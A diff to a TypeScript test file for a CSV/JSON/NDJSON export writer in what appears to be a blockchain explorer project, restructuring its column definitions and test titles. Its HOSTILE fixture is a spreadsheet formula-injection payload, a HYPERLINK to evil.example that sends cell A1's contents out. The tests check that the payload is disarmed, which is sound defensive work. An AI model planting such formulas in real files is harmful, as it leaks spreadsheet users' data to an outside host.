@@ -1,15 +1,16 @@
 import { parseCsv } from '@otterscan/ethereum/csv'
 import { describe, expect, test } from 'vitest'
-import { createExportWriter, type ExportColumn, type ExportFormat } from './exportWriter.ts'
+import { createExportWriter, type ExportFormat, type FileColumn } from './exportWriter.ts'
 
 interface Holding {
   readonly token: string
   readonly amount: bigint | undefined
 }
 
-const COLUMNS: readonly ExportColumn<Holding>[] = [
-  { key: 'token', read: ({ token }) => token },
-  { key: 'amount', read: ({ amount }) => amount?.toString() },
+const COLUMNS: readonly FileColumn<Holding>[] = [
+  { file: { token: ({ token }) => token } },
+  {},
+  { file: { amount: ({ amount }) => amount?.toString() } },
 ]
 
 const HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"Claim"),\r\n@SUM(1)'
@@ -29,9 +30,9 @@ function write(format: ExportFormat, pages = PAGES): string {
 }
 
 describe('createExportWriter', () => {
-  test('behavior: CSV keeps a hostile name whole and nothing in it runs', () => {
+  test('behavior: CSV keeps a hostile name intact and disarms it', () => {
     const text = write('csv')
-    // As a spreadsheet reads it: no cell starts like a formula.
+    // For a spreadsheet: no cell starts like a formula.
     const cells = parseCsv(text, { guardsFormulas: false })
     for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
     expect(cells[1]).toEqual([`'${HOSTILE}`, BIG.toString()])
@@ -43,7 +44,7 @@ describe('createExportWriter', () => {
     ])
   })
 
-  test('behavior: JSON and NDJSON hold the same, nothing is undefined', () => {
+  test('behavior: JSON and NDJSON have the same content, without undefined', () => {
     const expected = [
       { token: HOSTILE, amount: BIG.toString() },
       { token: '+1', amount: null },
@@ -55,7 +56,7 @@ describe('createExportWriter', () => {
     expect(write('csv') + write('json') + write('ndjson')).not.toContain('undefined')
   })
 
-  test('behavior: no rows is still a file of its form', () => {
+  test('behavior: no rows still give a valid file', () => {
     expect(JSON.parse(write('json', []))).toEqual([])
     expect(JSON.parse(write('json', [[], PAGES[0] ?? []]))).toHaveLength(1)
     expect(write('ndjson', [])).toBe('')
